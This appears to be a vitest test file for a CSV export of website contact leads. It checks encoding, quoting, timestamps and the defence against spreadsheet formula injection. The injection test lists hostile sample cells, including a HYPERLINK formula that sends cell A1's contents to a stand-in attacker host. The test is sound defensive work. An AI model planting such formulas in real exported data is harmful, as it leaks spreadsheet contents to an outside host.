import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { LEAD_CSV_HEADER, easternTimestamp, leadCsvRecord, leadsToCsv, type LeadCsvRow } from "./csv.server";

const SITE = "https://www.example.com";

function lead(overrides: Partial<LeadCsvRow>): LeadCsvRow {
  return {
    id: "3f0c2a1e-7b4d-4c9a-9f1e-0a1b2c3d4e5f",
    kind: "contact",
    status: "new",
    owner: null,
    name: "Pat Doe",
    email: "pat@example.com",
    organization: null,
    phone: null,
    summary: "Please call",
    receivedAt: new Date("2026-03-09T18:05:00Z"),
    source: "",
    medium: "",
    campaign: "",
    entryPage: "",
    ...overrides,
  };
}

/** Reads the CSV back with a real parser, as a spreadsheet's import would split it. */
function parseBack(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false, record_delimiter: "\r\n" });
}

describe("the lead CSV", () => {
  it("starts with a UTF-8 BOM and the header, and ends every record with CRLF", () => {
    const csv = leadsToCsv([lead({})], SITE);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(parseBack(csv)[0]).toEqual([...LEAD_CSV_HEADER]);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/\r\n/g, "").includes("\n")).toBe(false);
  });

  it("is just the header when there are no leads", () => {
    expect(parseBack(leadsToCsv([], SITE))).toEqual([[...LEAD_CSV_HEADER]]);
  });

  it("neutralises cells a spreadsheet would run as a formula, in every column that holds visitor text", () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+1 404 555 0142",
      "-2+3",
      "@SUM(1,1)",
      "\tcmd",
      "\r=1+1",
    ];
    for (const value of hostile) {
      const rows = parseBack(
        leadsToCsv([lead({ name: value, organization: value, phone: value, summary: value, owner: value })], SITE),
      );
      const [record] = rows.slice(1);
      for (const column of ["Owner", "Name", "Organization", "Phone", "What they asked"] as const) {
        const cell = record![LEAD_CSV_HEADER.indexOf(column)]!;
        // Shown as text: the same characters behind an apostrophe, so nothing is lost either.
        expect(cell, `${column}: ${JSON.stringify(value)}`).toBe(`'${value}`);
      }
    }
  });

  it("leaves ordinary text alone, and a formula character inside a cell (not at its start) too", () => {
    const [, record] = parseBack(leadsToCsv([lead({ name: "Ana = Bob", summary: "Cost 5-10 @ school" })], SITE));
    expect(record![LEAD_CSV_HEADER.indexOf("Name")]).toBe("Ana = Bob");
    expect(record![LEAD_CSV_HEADER.indexOf("What they asked")]).toBe("Cost 5-10 @ school");
  });

  it("keeps quotes, commas, line breaks and non-ASCII text inside their cell", () => {
    const summary = 'She said "call me, please"\nSecond line\r\nThird, with a comma';
    const name = "Zoë Ñúñez 李雷 👩‍💻";
    const csv = leadsToCsv([lead({ name, summary, organization: 'The "Best", School' })], SITE);
    const rows = parseBack(csv);
    expect(rows).toHaveLength(2);
    const record = rows[1]!;
    expect(record).toHaveLength(LEAD_CSV_HEADER.length);
    expect(record[LEAD_CSV_HEADER.indexOf("Name")]).toBe(name);
    expect(record[LEAD_CSV_HEADER.indexOf("What they asked")]).toBe(summary);
    expect(record[LEAD_CSV_HEADER.indexOf("Organization")]).toBe('The "Best", School');
  });

  it("gives the time in UTC and Eastern, the id and a link to the lead", () => {
    const [, winter] = parseBack(leadsToCsv([lead({ id: "42", receivedAt: new Date("2026-01-15T14:30:00Z") })], SITE));
    expect(winter!.slice(0, 2)).toEqual(["2026-01-15T14:30:00.000Z", "2026-01-15 09:30 EST"]);
    expect(winter!.slice(-2)).toEqual(["42", `${SITE}/admin/leads/42`]);
    expect(easternTimestamp(new Date("2026-07-04T16:00:00Z"))).toBe("2026-07-04 12:00 EDT");
  });

  it("writes one record per lead, in the order given, with every column", () => {
    const rows = [lead({ id: "c" }), lead({ id: "b" }), lead({ id: "a" })];
    const parsed = parseBack(leadsToCsv(rows, SITE)).slice(1);
    expect(parsed.map((r) => r[LEAD_CSV_HEADER.indexOf("Lead ID")])).toEqual(["c", "b", "a"]);
    expect(parsed[0]).toEqual(leadCsvRecord(rows[0]!, SITE));
  });
});
